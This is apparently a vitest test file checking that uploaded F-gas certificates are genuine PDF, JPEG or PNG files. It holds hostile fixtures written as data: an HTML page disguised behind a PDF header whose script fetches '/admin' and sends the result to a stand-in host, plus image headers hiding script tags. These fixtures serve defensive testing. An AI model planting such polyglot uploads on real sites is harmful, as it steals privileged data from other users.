import PDFDocument from "pdfkit";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { certificateType } from "~/domain/orders/fgas-certificate";
import { certificateOpens } from "./fgas-certificate-content.server";

const text = (value: string) => new TextEncoder().encode(value);

function realPdf(): Promise<Uint8Array> {
  return new Promise((resolve) => {
    const doc = new PDFDocument({ size: "A4" });
    const chunks: Buffer[] = [];
    doc.on("data", (chunk: Buffer) => chunks.push(chunk));
    doc.on("end", () => resolve(new Uint8Array(Buffer.concat(chunks))));
    doc.text("Certificado de instalación: Frío Instalaciones S.L., habilitación 28-FG-0001");
    doc.end();
  });
}

describe("an F-gas certificate must really be what its first bytes claim", () => {
  it("accepts a real PDF, JPEG and PNG", async () => {
    expect(await certificateOpens(await realPdf(), "application/pdf")).toBe(true);
    const jpeg = await sharp({ create: { width: 40, height: 30, channels: 3, background: "#ffffff" } }).jpeg().toBuffer();
    const png = await sharp({ create: { width: 40, height: 30, channels: 3, background: "#204080" } }).png().toBuffer();
    expect(await certificateOpens(new Uint8Array(jpeg), "image/jpeg")).toBe(true);
    expect(await certificateOpens(new Uint8Array(png), "image/png")).toBe(true);
  });

  it("refuses the audit's HTML page with a script behind a PDF header", async () => {
    const html = text("%PDF-1.7\n<html><body><script>fetch('/admin').then(r=>r.text()).then(t=>location='//x/?'+t)</script></body></html>\n");
    expect(certificateType(html)).toBe("application/pdf");
    expect(await certificateOpens(html, "application/pdf")).toBe(false);
  });

  it("refuses a cut PDF and images whose data is not an image", async () => {
    const pdf = await realPdf();
    expect(await certificateOpens(pdf.slice(0, 200), "application/pdf")).toBe(false);
    const jpegHeaderOnly = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, ...text("<script>alert(1)</script>")]);
    expect(await certificateOpens(jpegHeaderOnly, "image/jpeg")).toBe(false);
    const pngHeaderOnly = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...text("<html></html>")]);
    expect(await certificateOpens(pngHeaderOnly, "image/png")).toBe(false);
  });
});
